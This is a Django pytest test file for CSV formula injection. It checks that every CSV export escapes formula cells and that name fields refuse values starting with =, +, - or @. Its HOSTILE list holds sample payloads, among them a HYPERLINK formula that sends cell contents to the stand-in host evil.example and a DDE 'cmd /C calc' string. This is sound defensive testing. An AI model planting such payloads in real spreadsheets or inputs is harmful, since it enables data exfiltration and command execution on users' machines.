"""Issue 11, item 8: CSV formula injection. Every export neutralises formula cells; names are names."""

from __future__ import annotations

import csv
import importlib
import inspect
import io
import re
from pathlib import Path

import pytest
from django import forms
from django.conf import settings
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from rest_framework import serializers

from accounts.models import User
from accounts.spreadsheet import safe_cell
from accounts.validators import FORMULA_PREFIXES, validate_person_name
from coordination.forms import SuperviseeForm
from coordination.models import Supervisee
from records import actions as records_actions
from services.models import Membership
from tests.coordination.factories import make_supervisee
from tests.factories import user_with_role
from volunteers.forms import ApplicationForm
from volunteers.models import Volunteer

BASE_DIR = Path(settings.BASE_DIR)
PROJECT_APPS = ["accounts", "services", "coordination", "matching", "volunteers", "cms", "config", "records"]
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1", "\r=1"]


def _csv_routes(resolver=None, prefix=""):
    """Every URL whose route ends in .csv or whose name says export: the CSV-producing views."""
    resolver = resolver or get_resolver()
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            namespace = f"{pattern.namespace}:" if pattern.namespace else ""
            for name, route in _csv_routes(pattern, prefix + str(pattern.pattern)):
                yield (namespace + name if name else name), route
        elif isinstance(pattern, URLPattern):
            route = prefix + str(pattern.pattern)
            # A case package (.json, for another deployment) is not a spreadsheet.
            if route.endswith(".csv") or ("export" in (pattern.name or "") and not route.endswith(".json")):
                yield pattern.name, route


def test_no_module_writes_csv_without_the_safe_writer():
    offenders = []
    for app in PROJECT_APPS:
        for path in (BASE_DIR / app).rglob("*.py"):
            if "migrations" in path.parts or path == BASE_DIR / "accounts" / "spreadsheet.py":
                continue
            text = path.read_text(encoding="utf-8")
            if re.search(r"csv\.(writer|DictWriter)\(", text) or re.search(r"from csv import", text):
                offenders.append(str(path.relative_to(BASE_DIR)))
            if re.search(r"list_export\s*=", text):
                offenders.append(f"{path.relative_to(BASE_DIR)} (Wagtail list_export writes CSV itself)")
    assert offenders == []


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_cell_neutralises_formula_text(value):
    assert safe_cell(value) == "'" + value
    assert safe_cell(-5) == -5 and safe_cell("张三") == "张三"


def test_every_csv_export_neutralises_a_hostile_name(client, city, role_users):
    bureau = role_users[Membership.Role.BUREAU_ADMIN]
    supervisee = make_supervisee(office=city.office, actor=bureau)
    # Rows written before names were validated (or by a bulk import) must not reach a spreadsheet as formulas.
    Supervisee.objects.filter(pk=supervisee.pk).update(name=HOSTILE[0], given_name=HOSTILE[3])
    supervisee.refresh_from_db()
    # The document register lists the person of each issued document.
    records_actions.issue(
        kind="travel_certificate", office=city.office, supervisee=supervisee, source=None, data={}, actor=bureau
    )
    # The staff training table lists staff members by name.
    staff = user_with_role(Membership.Role.OFFICE_OFFICER, city.office, username="hostile-staff")
    User.objects.filter(pk=staff.pk).update(full_name=HOSTILE[0])
    routes = list(_csv_routes())
    assert ("coordination:caseload-export", "casework/caseload/export.csv") in routes
    client.force_login(bureau)
    for name, _route in routes:
        response = client.get(reverse(name))
        assert response.status_code == 200, name
        body = b"".join(response.streaming_content) if response.streaming else response.content
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
        cells = [cell for row in rows for cell in row]
        assert "'" + HOSTILE[0] in cells, name
        assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)], name


# --- names are validated as names ----------------------------------------------------------------


@pytest.mark.parametrize("name", ["=cmd", "+86", "-x", "@me", "张\x07三", "王\t五"])
def test_the_intake_form_refuses_a_formula_as_a_name_in_chinese(db, name):
    form = SuperviseeForm(data={"name": name, "given_name": "三"})
    assert not form.is_valid()
    assert "姓名不能以 =、+、- 或 @ 开头" in str(form.errors["name"])


def test_the_volunteer_application_refuses_a_formula_as_a_name_in_english(client, db):
    response = client.post("/en/volunteers/apply/", {"full_name": "=HYPERLINK(1)"})
    assert response.status_code == 400
    assert "A name cannot start with =, +, - or @" in response.content.decode()
    assert not ApplicationForm(data={"full_name": "@x"}).is_valid()


def test_the_api_refuses_a_formula_as_a_supervisee_name(client, role_users):
    client.force_login(role_users[Membership.Role.OFFICE_OFFICER])
    response = client.post(
        "/api/v1/supervisees/", {"name": "=1+1", "given_name": "-1"}, content_type="application/json"
    )
    assert response.status_code == 400
    body = response.content.decode()
    assert "name" in response.json() or "name" in body
    assert "=" not in [s.name for s in Supervisee.objects.all()]


def test_every_person_name_field_and_input_uses_the_one_name_validator():
    for model, field in [(Supervisee, "name"), (Supervisee, "given_name"), (Volunteer, "full_name")]:
        assert validate_person_name in model._meta.get_field(field).validators, f"{model.__name__}.{field}"
    checked = []
    for app in ["coordination", "volunteers", "matching", "services", "accounts"]:
        for module_name in ("forms", "api"):
            try:
                module = importlib.import_module(f"{app}.{module_name}")
            except ModuleNotFoundError:
                continue
            for cls_name, cls in inspect.getmembers(module, inspect.isclass):
                if cls.__module__ != module.__name__ or "Output" in cls_name:
                    continue
                if issubclass(cls, forms.BaseForm):
                    fields = cls.base_fields
                elif issubclass(cls, serializers.Serializer) and not issubclass(cls, serializers.ModelSerializer):
                    fields = cls._declared_fields
                else:
                    continue
                for field_name, field in fields.items():
                    person = field_name in {"full_name", "given_name"} or (
                        field_name == "name" and "Supervisee" in cls_name
                    )
                    if person and not getattr(field, "read_only", False):
                        assert validate_person_name in field.validators, f"{module.__name__}.{cls_name}.{field_name}"
                        checked.append(f"{cls_name}.{field_name}")
    assert {"SuperviseeForm.name", "SuperviseeInput.name", "ApplicationForm.full_name"} <= set(checked)
